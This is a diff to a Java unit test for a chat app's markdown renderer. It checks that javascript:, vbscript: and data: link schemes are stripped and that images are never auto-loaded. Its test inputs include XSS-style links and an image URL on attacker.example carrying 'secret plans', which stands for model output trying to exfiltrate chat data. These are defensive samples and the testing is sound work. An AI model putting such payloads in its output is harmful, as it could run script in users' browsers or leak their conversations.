@@ -4,7 +4,10 @@ import org.junit.jupiter.api.Test;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-/** Math survives markdown as spans for the browser to typeset; prices, code and escapes stay text. */
+/**
+ * Math survives markdown as spans for the browser to typeset; prices, code and escapes stay text. Model
+ * output cannot make the browser send anything anywhere by itself, nor link to other schemes.
+ */
 class MarkdownRendererTest {
 
     final MarkdownRenderer markdown = new MarkdownRenderer();
@@ -48,8 +51,40 @@ class MarkdownRendererTest {
         assertThat(markdown.toBlockHtml("```java\nint x = 1;\n```\n"))
                 .isEqualTo("<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">java</span>"
                         + "<button class=\"copy-code\" type=\"button\" aria-label=\"Copy code\">Copy</button></div>"
-                        + "<pre><code class=\"language-java\">int x = 1;\n</code></pre></div>\n");
+                        + "<pre tabindex=\"0\"><code class=\"language-java\">int x = 1;\n</code></pre></div>\n");
         assertThat(markdown.toBlockHtml("```\nplain\n```\n")).contains("<span class=\"code-lang\"></span>");
         assertThat(markdown.toHtml("```java\nint x = 1;\n```\n")).doesNotContain("code-head");
+    }
+
+    @Test
+    void onlyHttpHttpsAndMailtoStayLinks() {
+        String html = markdown.toHtml("""
+                [web](https://example.com/a) [plain](http://example.com) [mail](mailto:a@example.com)
+                [data](data:text/html;base64,PHNjcmlwdD4=) [js](javascript:alert(1)) [rel](/actuator/metrics)
+                [odd](HTTPS:example.com) [vb](vbscript:x) <data:text/html,hi>
+                """);
+
+        assertThat(html).contains("href=\"https://example.com/a\"", "href=\"http://example.com\"",
+                "href=\"mailto:a@example.com\"");
+        assertThat(html).doesNotContain("data:text/html;base64", "href=\"javascript", "href=\"/actuator",
+                "href=\"HTTPS:example", "href=\"vbscript", "href=\"data:");
+        assertThat(html).contains("data", "js", "rel", "odd").doesNotContain("href=\"\"");
+    }
+
+    @Test
+    void imagesAreLinksTheUserMayClickNeverLoadedByThemselves() {
+        String html = markdown.toHtml("Look: ![your chats](https://attacker.example/?q=secret%20plans) and "
+                + "![](data:image/png;base64,AAAA) ![x](/logo.png)");
+
+        assertThat(html).doesNotContain("<img");
+        assertThat(html).contains("href=\"https://attacker.example/?q=secret%20plans\"")
+                .contains("image: your chats</a>")
+                .doesNotContain("data:image", "/logo.png");
+    }
+
+    @Test
+    void autolinkedUrlsFollowTheSameRule() {
+        assertThat(markdown.toHtml("see https://example.com and www.example.org"))
+                .contains("href=\"https://example.com\"");
     }
 }
